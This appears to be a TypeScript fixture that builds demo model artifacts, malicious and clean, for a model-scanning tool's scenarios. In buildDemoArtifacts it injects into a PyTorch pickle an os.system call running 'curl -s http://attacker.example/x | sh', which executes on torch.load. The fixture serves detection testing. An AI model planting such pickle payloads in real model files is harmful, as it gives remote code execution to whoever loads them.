// Model artifacts for the demo scenarios: a deployed model.tar.gz with an embedded payload, and a clean PyTorch model.
//   npx tsx mocks/artifacts/demo.ts OUT_DIR   writes them as files (for BodyFile references in scenario YAML)
import { mkdirSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { buildTar, gzip } from './containers.js';
import { buildPytorchZip } from './models.js';

export interface DemoArtifacts {
  /** SageMaker-style model.tar.gz whose model.pth data.pkl calls os.system (a reverse-shell-like payload) */
  maliciousModelTarGz: Buffer;
  /** the same model without the payload */
  cleanModelTarGz: Buffer;
  /** a clean PyTorch zip checkpoint (e.g. a Vertex model's model.pt) */
  cleanPytorch: Buffer;
}

const TENSORS = [
  { name: 'encoder.weight', shape: [16, 8] },
  { name: 'encoder.bias', shape: [16] },
  { name: 'head.weight', shape: [2, 16] },
];

const inference = Buffer.from('import torch\n\ndef model_fn(model_dir):\n    return torch.load(f"{model_dir}/model.pth")\n');

export function buildDemoArtifacts(): DemoArtifacts {
  const evil = buildPytorchZip(TENSORS, {
    prefix: 'model',
    inject: (p) => p.global('os', 'system').str('curl -s http://attacker.example/x | sh').tuple1().reduce().pop(),
  });
  const clean = buildPytorchZip(TENSORS, { prefix: 'model' });
  return {
    maliciousModelTarGz: gzip(buildTar([{ name: 'model.pth', data: evil }, { name: 'code/inference.py', data: inference }])),
    cleanModelTarGz: gzip(buildTar([{ name: 'model.pth', data: clean }, { name: 'code/inference.py', data: inference }])),
    cleanPytorch: clean,
  };
}

if (process.argv[1] && resolve(process.argv[1]) === resolve(new URL(import.meta.url).pathname)) {
  const out = resolve(process.argv[2] ?? 'mocks/scenarios/artifacts');
  mkdirSync(out, { recursive: true });
  const a = buildDemoArtifacts();
  writeFileSync(join(out, 'malicious-model.tar.gz'), a.maliciousModelTarGz);
  writeFileSync(join(out, 'clean-model.tar.gz'), a.cleanModelTarGz);
  writeFileSync(join(out, 'clean-model.pt'), a.cleanPytorch);
  process.stdout.write(`wrote malicious-model.tar.gz, clean-model.tar.gz, clean-model.pt to ${out}\n`);
}
